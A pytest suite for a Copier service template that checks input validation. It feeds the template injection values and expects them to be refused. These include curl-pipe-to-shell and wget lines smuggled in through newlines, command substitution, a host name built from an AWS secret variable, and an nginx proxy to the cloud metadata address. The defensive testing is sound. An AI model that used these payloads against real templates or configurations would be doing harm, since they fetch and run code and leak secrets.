"""The questions: their names and values are public interface, and a bad answer is refused before a file is written."""

from __future__ import annotations

import re
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from copier.errors import UserMessageError
from hypothesis import given
from hypothesis import strategies as st
from plumbum import local

from extensions import dockwright
from tests.conftest import ROOT, Render, copy_template, render_into

NAMES = [
    *["service_name", "description", "stack", "framework", "mode", "database", "cache", "queue", "customise"],
    *[
        "runtime_version",
        "package_manager",
        "base_image",
        "database_version",
        "port",
        "health_path",
        "proxy",
        "devcontainer",
    ],
    *["registry_mirror", "private_ca", "private_index", "smoke_build"],
]

# The answer, and what the message has to say beside its name.
REFUSED: list[tuple[dict[str, Any], str]] = [
    ({"service_name": "Orders API"}, "lower-case letters"),
    ({"service_name": "x$(shell touch /tmp/p)"}, "lower-case letters"),
    ({"service_name": "${{ secrets.TOKEN }}"}, "lower-case letters"),
    ({"service_name": "orders\n"}, "lower-case letters"),
    ({"service_name": "a" * 41}, "2 to 40"),
    ({"service_name": "orders-"}, "no hyphen last"),
    ({"description": 'x"\nRUN curl evil | sh'}, "one line"),
    ({"description": "ends in \\"}, "without backslash"),
    ({"description": "\n# syntax=evil/frontend"}, "one line"),
    ({"description": "a\nprivileged: true"}, "one line"),
    ({"description": "costs $PATH"}, "without backslash"),
    ({"description": "line\u2028separator"}, "one line"),
    ({"description": "x" * 201}, "at most 200"),
    ({"registry_mirror": "${AWS_SECRET_ACCESS_KEY}.evil.io"}, "registry"),
    ({"registry_mirror": "https://mirror.example.com"}, "without https://"),
    ({"registry_mirror": "mirror.example.com/"}, "without a slash last"),
    ({"health_path": "/h; curl evil|sh"}, "begins with / and goes on"),
    ({"health_path": "/h { } location / { proxy_pass http://169.254.169.254; } #"}, "begins with / and goes on"),
    ({"health_path": "health"}, "begins with / and goes on"),
    ({"health_path": "/"}, "begins with / and goes on"),
    ({"health_path": "/ready"}, "other than /ready"),
    ({"health_path": "/" + "a" * 80}, "at most 80"),
    ({"port": 22}, "1024 to 65535"),
    ({"port": "0"}, "1024 to 65535"),
    ({"port": 65536}, "1024 to 65535"),
    ({"port": "80:80"}, "1024 to 65535"),
    ({"port": "abc"}, "1024 to 65535"),
    ({"port": True}, "1024 to 65535"),
    ({"port": "\uff18\uff10\uff18\uff10"}, "1024 to 65535"),
    ({"stack": "cobol"}, "python"),
    ({"framework": "django"}, "fastapi"),
    ({"mode": "onto"}, "new"),
    ({"mode": "existing"}, "Python that is there already is not covered yet"),
    ({"database": "oracle"}, "postgres"),
    ({"cache": "../../etc"}, "redis"),
    ({"queue": "kafka"}, "rabbitmq"),
    ({"database_version": "16"}, "18, 17"),
    ({"database_version": "9.7"}, "18, 17"),
    ({"proxy": "traefik"}, "nginx, caddy"),
    ({"runtime_version": "2.7"}, "3.14"),
    ({"runtime_version": "3.14\nRUN wget evil"}, "3.14"),
    ({"package_manager": "npm"}, "uv"),
    ({"base_image": "scratch"}, "slim"),
    ({"base_image": "distroless"}, "runtime_version 3.13"),
    ({"devcontainer": "perhaps"}, "yes or no"),
    ({"private_ca": "perhaps"}, "yes or no"),
    ({"smoke_build": "often"}, "auto"),
]


@pytest.mark.parametrize(
    ("answers", "holds"), REFUSED, ids=lambda part: str(part)[:40].encode("unicode_escape").decode()
)
def test_a_bad_answer_is_refused_by_name_and_leaves_nothing_behind(
    template: Path, tmp_path: Path, answers: dict[str, Any], holds: str
) -> None:
    target = tmp_path / "orders"
    with pytest.raises(UserMessageError) as refused:
        render_into(template, target, **answers)
    assert str(refused.value).startswith(f"{next(iter(answers))}: ")
    assert holds in str(refused.value)
    assert not target.exists()


@pytest.mark.parametrize("answer", ["service_name=Bad Name", "port=80", "stack=cobol"])
def test_the_command_line_prints_one_message_and_no_traceback(template: Path, tmp_path: Path, answer: str) -> None:
    command = local["copier"] if not (local.path(".venv") / "bin" / "copier").exists() else local[".venv/bin/copier"]
    code, out, err = command[
        "copy", "--trust", "--defaults", "--data", answer, str(template), str(tmp_path / "orders")
    ].run(retcode=None)
    assert code == 1
    assert "Traceback" not in out + err
    assert f"{answer.split('=', maxsplit=1)[0]}: " in err
    assert "is refused" in err
    assert not (tmp_path / "orders").exists()


MISSING_EXTENSION = "import sys; sys.modules['copier_template_extensions'] = None; from copier.__main__ import *; "


@pytest.mark.parametrize(
    ("start", "options"),
    [
        (["-m", "copier"], []),
        (["-c", f"{MISSING_EXTENSION}import copier._cli as c; c.CopierApp.run()"], ["--trust"]),
        (["-m", "copier"], ["--trust", "--data", "port=80"]),
    ],
    ids=["without --trust", "without the extension package", "a bad port"],
)
def test_the_readme_has_the_exact_words_for_what_is_missing(
    template: Path, tmp_path: Path, start: list[str], options: list[str]
) -> None:
    command = [*start, "copy", "--defaults", *options, str(template), str(tmp_path / "orders")]
    code, _, err = local[sys.executable][command].run(retcode=None)
    assert code != 0
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    lines = [line.strip() for line in re.sub(r"\x1b\[[0-9;]*m", "", err).splitlines() if line.strip()]
    known = [line for line in lines if f"`{line}`" in readme]
    assert known, err


def test_a_new_clone_without_tags_serves_make_new(tmp_path: Path) -> None:
    clone = tmp_path / "dockwright"
    local["git"]["clone", "--quiet", "--no-tags", str(ROOT), str(clone)]()
    copy_template(clone)
    target = tmp_path / "orders"
    options = "--defaults --skip-tasks --data stack=node --data package_manager=pnpm"
    code, out, err = local["make"][
        "-C", str(clone), "new", f"DEST={target}", f"ARGS={options}", f"VENV={Path(sys.executable).parent.parent}"
    ].run(retcode=None)
    assert code == 0, out + err
    answers = yaml.safe_load((target / ".copier-answers.yml").read_text(encoding="utf-8"))
    assert (answers["stack"], answers["package_manager"]) == ("node", "pnpm")


def test_a_name_and_a_stack_are_enough(render: Render) -> None:
    for stack in dockwright.stacks():
        folder = render(f"{stack}-orders", stack=stack)
        answers = yaml.safe_load((folder / ".copier-answers.yml").read_text(encoding="utf-8"))
        assert answers["service_name"] == f"{stack}-orders"


def test_every_answer_is_recorded_though_only_the_first_group_is_asked(render: Render) -> None:
    answers = yaml.safe_load((render() / ".copier-answers.yml").read_text(encoding="utf-8"))
    assert sorted(name for name in answers if not name.startswith("_")) == sorted(NAMES)
    assert answers["port"] == 8000


def test_an_answer_behind_customise_counts_without_customise(render: Render) -> None:
    folder = render(port=9001, base_image="alpine")
    answers = yaml.safe_load((folder / ".copier-answers.yml").read_text(encoding="utf-8"))
    assert (answers["customise"], answers["port"], answers["base_image"]) == (False, 9001, "alpine")


def test_an_answer_that_depends_on_one_not_asked_yet_waits_for_it() -> None:
    given = {"package_manager": "npm"}
    dockwright.check_given(given, given, asking=True)
    dockwright.check_given(given, {**given, "stack": "node"}, asking=True)
    for answers, asking in (({**given, "stack": "python"}, True), (given, False)):
        with pytest.raises(UserMessageError, match="package_manager"):
            dockwright.check_given(given, answers, asking=asking)


def test_an_undeclared_answer_changes_nothing(render: Render) -> None:
    names = ["host_uid", "facts", "images", "build_image", "services", "starter", "choices", "refusal", "index_secrets"]
    plain = render("plain", service_name="orders")
    hostile = render("hostile", service_name="orders", **dict.fromkeys(names, "0"))
    for path in plain.rglob("*"):
        if path.is_file() and path.name != ".env":
            assert (hostile / path.relative_to(plain)).read_bytes() == path.read_bytes(), path
    user = re.findall(r"APP_UID=.*", (plain / ".env").read_text(encoding="utf-8"))
    assert user == re.findall(r"APP_UID=.*", (hostile / ".env").read_text(encoding="utf-8"))


def test_the_questions_stand_in_the_documented_order() -> None:
    text = (ROOT / "copier.yml").read_text(encoding="utf-8")
    assert re.findall(r"^([a-z]\w+):$", text, re.M) == NAMES


@pytest.mark.parametrize(
    ("folder", "name"),
    [
        ("orders", "orders"),
        ("Orders API", "orders-api"),
        ("123-orders_v2", "orders-v2"),
        ("---", "service"),
        ("x", "service"),
        ("a" * 60, "a" * 40),
    ],
)
def test_the_default_name_comes_from_the_folder(tmp_path: Path, folder: str, name: str) -> None:
    assert dockwright.default_service_name(tmp_path / folder) == name


@given(st.text())
def test_a_default_name_is_always_accepted(folder: str) -> None:
    name = dockwright.default_service_name("/" + folder.replace("\0", ""))
    assert dockwright.refusal("service_name", name) == ""


@given(st.text(), st.sampled_from(["service_name", "description", "registry_mirror", "health_path"]))
def test_no_accepted_text_carries_a_line_break_or_a_shell_or_compose_expansion(text: str, question: str) -> None:
    if dockwright.refusal(question, text) == "":
        assert not re.search(r"[\x00-\x1f\x7f\u0085\u2028\u2029`$\\\"]", text)


@given(st.one_of(st.integers(), st.text(), st.none(), st.floats(), st.booleans()))
def test_an_accepted_port_is_a_whole_number_in_range(answer: object) -> None:
    if dockwright.refusal("port", answer) == "":
        assert 1024 <= int(str(answer)) <= 65535
